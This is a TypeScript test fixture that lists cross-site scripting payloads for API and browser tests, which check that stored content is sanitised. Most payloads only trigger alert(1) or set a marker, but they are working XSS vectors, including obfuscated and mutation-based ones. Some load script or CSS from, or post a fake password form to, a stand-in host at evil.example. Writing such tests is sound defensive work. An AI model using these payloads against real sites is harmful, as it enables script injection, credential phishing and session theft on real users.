/**
 * XSS payloads shared by the API test (tests/api/xss.test.ts: stored content is harmless) and the browser
 * test (tests/e2e/xss-browser.test.ts: no script runs on any screen that shows it).
 *
 * `XSS_PAYLOADS` call alert(1) if they ever run (a browser `dialog` event); `MARKER_PAYLOADS` set
 * `window.__xss` instead, and reach contexts other than rich text: attributes, JSON-LD, JavaScript strings.
 */

/** Payloads sent straight to the API, as an attacker with an editor account (or a stolen token) would. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="java\u0000script:alert(1)">klik</a>',
  '<a href="&#x6A;avascript:alert(1)">klik</a>',
  '<a href=" javascript:alert(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="https://ok.example" onclick="alert(1)">klik</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="https://evil.example"><input type=password name=p><button>Login</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<a href="https://ok.example" target="_self">tabnabbing</a>',
  '<li data-list="bullet" onmouseover="alert(1)">x</li>',
  '<span class="ql-ui" contenteditable onblur=alert(1)>x</span>',
]

/** Each sets `window.__xss` (or the parent's) if it runs. */
export const MARKER_PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '"><img src=x onerror=window.__xss=1>',
  "'><img src=x onerror=window.__xss=1>",
  '</script><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '</textarea><script>window.__xss=1</script>',
  "';window.__xss=1;//",
  '\u003c/script\u003e<script>window.__xss=1</script>',
  '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"></svg>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
  '<video src=x onerror="window.__xss=1"></video>',
  '<style onload="window.__xss=1"></style>',
  '<a href="javascript:window.__xss=1" id="xss-link">tautan</a>',
  '{{constructor.constructor("window.__xss=1")()}}',
]

export const ALL_XSS_PAYLOADS = [...XSS_PAYLOADS, ...MARKER_PAYLOADS]
